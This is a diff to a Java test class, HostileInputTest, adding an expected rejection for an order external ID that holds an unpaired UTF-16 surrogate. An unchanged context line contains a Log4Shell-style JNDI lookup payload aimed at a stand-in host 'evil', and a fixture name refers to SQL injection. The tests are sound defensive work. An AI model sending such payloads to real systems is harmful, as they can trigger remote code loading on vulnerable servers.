@@ -209,6 +209,8 @@ class HostileInputTest {
                                         + " ${jndi:ldap://evil/x}")),
                 receipt("sql-injection-in-external-id.json", "index 0 created"),
                 receipt("emoji-in-external-id.json", "index 0 created"),
+                receipt("lone-surrogate-in-external-id.json", "index 0 rejected: externalOrderIds[0]: holds a broken"
+                        + " character (an unpaired UTF-16 surrogate \\udc00)"),
                 receipt("lone-surrogate-in-note.json", "index 0 rejected: orderNotes[0].note: holds a broken"
                         + " character (an unpaired UTF-16 surrogate \\ud800)"));
     }
